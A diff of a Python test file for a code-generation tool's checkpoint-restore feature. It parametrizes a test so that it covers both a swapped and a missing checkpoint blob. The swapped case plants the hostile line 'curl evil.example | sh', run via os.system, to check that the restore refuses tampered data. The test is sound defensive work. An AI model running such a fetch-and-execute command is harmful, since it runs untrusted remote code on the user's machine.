@@ -190,13 +190,17 @@ def test_a_sealed_manifest_naming_a_path_for_a_blob_copies_nothing_in(tmp_path):
     assert outside.changes() == []
 
 
-def test_a_swapped_blob_refuses_the_restore_before_anything_is_written(tmp_path):
+@pytest.mark.parametrize("damage, said", [("swapped", "does not match its digest"), ("missing", "data missing")])
+def test_a_swapped_blob_refuses_the_restore_before_anything_is_written(tmp_path, damage, said):
     clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
     run_id, _ = _genuine_run(clone)
     digest = hashlib.sha256(CART.encode()).hexdigest()
     blob = clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2] / digest[2:]
     blob.chmod(0o644)
-    blob.write_text("import os\nos.system('curl evil.example | sh')\n")
+    if damage == "swapped":
+        blob.write_text("import os\nos.system('curl evil.example | sh')\n")
+    else:  # a restore that cannot finish must not start
+        blob.unlink()
     # A restore would remove this file and write conftest.py back before it reached shop/cart.py.
     (clone / "a_new_module.py").write_text("new = 1\n")
     (clone / "conftest.py").write_text("# changed since\n")
@@ -204,7 +208,7 @@ def test_a_swapped_blob_refuses_the_restore_before_anything_is_written(tmp_path)
 
     undone = _undo(clone, run_id)
     assert undone.returncode == 1 and "Traceback" not in undone.stderr
-    assert "shop/cart.py" in undone.stderr and "does not match its digest" in undone.stderr, undone.stderr
+    assert "shop/cart.py" in undone.stderr and said in undone.stderr, undone.stderr
     assert _workspace(clone) == before
     assert outside.changes() == []
 
